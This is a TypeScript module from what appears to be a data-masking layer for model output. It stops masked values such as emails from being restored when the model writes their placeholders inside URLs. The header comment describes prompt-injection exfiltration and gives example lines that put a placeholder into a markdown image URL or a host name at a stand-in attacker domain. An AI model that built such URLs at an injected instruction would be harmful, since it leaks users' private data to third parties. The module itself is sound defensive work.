// `restore: true` gives the caller back the values the request's placeholders stood for, wherever
// the model wrote the placeholder. Written into a URL the model chose
// (`![x](https://attacker.test/p.png?d=<EMAIL_1>)`), the value leaves with the request a rendering
// client makes for it — the prompt-injection exfiltration path masking was meant to close. So a
// placeholder inside a URL is not restored: it stays as it is, for the caller as for the record.
// "Inside a URL" is read from the text before it: the run of characters right before it holds URL
// syntax (`://`, `/`, `?`, `=`, `&`, `#`, `%`, `:`, `](`, `www.`), or, in the 2,048 characters
// before it, a markdown link target, an HTML tag, a quoted attribute value or a CSS `url(` is still
// open — across line breaks too: an HTML attribute value may span lines, and a browser drops the
// line breaks from the URL it makes of it. Streams remember the end of what they released
// (lineTail), so a URL opened earlier still counts. And from the text after it: the run right
// after it, less closing punctuation, holds URL syntax or goes on as a host name
// (`<EMAIL_1>.attacker.test/x`, `<EMAIL_1>/../x`); streams hold a placeholder until that run ends
// (match-scanner.ts), and a run longer than AFTER counts as a URL.
import type { Match } from "./match-scanner.js";
import { AFTER } from "./markers.js";

/** The most of the text before a placeholder a stream remembers for the check. */
const LINE = 2048;

/** The end of `text` the check reads, at most LINE characters (line breaks included). */
export function lineTail(text: string): string {
  return text.length <= LINE ? text : text.slice(text.length - LINE);
}

const urlRun = /[:/\\?=&#%]|\]\(|www\./i;
const openConstruct = /\]\([^)]*$|<[a-zA-Z][^<>]*$|=\s*"[^"]*$|=\s*'[^']*$|url\(\s*[^)]*$/i;

/** Whether a placeholder right after `before` (the text before it) sits in a URL. */
export function insideUrl(before: string): boolean {
  const line = lineTail(before);
  let start = line.length;
  while (start > 0 && !/\s/.test(line[start - 1] as string)) start--;
  return urlRun.test(line.slice(start)) || openConstruct.test(line);
}

const closing = /[.,;:!?)\]}"'»”’]+$/u;
const urlAfter = /[:/\\?=&#%@]|^\.[\p{L}\p{N}]/u;

/** Whether a placeholder followed by `after` sits in a URL (a run past AFTER characters does). */
export function urlFollows(after: string): boolean {
  const space = after.search(/\s/);
  const run = space < 0 ? after : after.slice(0, space);
  if (run.length >= AFTER) return true;
  return urlAfter.test(run.replace(closing, ""));
}

/** `matches` of `text` with the restorations that sit in URLs withheld; `line` is the released line before `text[from]` (placeholders start at or after `from`). */
export function withholdInUrls(matches: Match[], text: string, from: number, line: string): Match[] {
  let out: Match[] | undefined;
  for (let index = 0; index < matches.length; index++) {
    const match = matches[index] as Match;
    if (!match.entry?.restore || !(insideUrl(line + text.slice(from, Math.max(from, match.start))) || urlFollows(text.slice(match.end)))) continue;
    out ??= [...matches];
    out[index] = { ...match, entry: { ...match.entry, restore: false } };
  }
  return out ?? matches;
}

/** `matches` with no placeholder restored (headers: the caller's code reads them, a browser follows them; they are not the model's text). */
export function withoutRestoring(matches: Match[]): Match[] {
  return matches.some((match) => match.entry?.restore) ? matches.map((match) => (match.entry?.restore ? { ...match, entry: { ...match.entry, restore: false } } : match)) : matches;
}
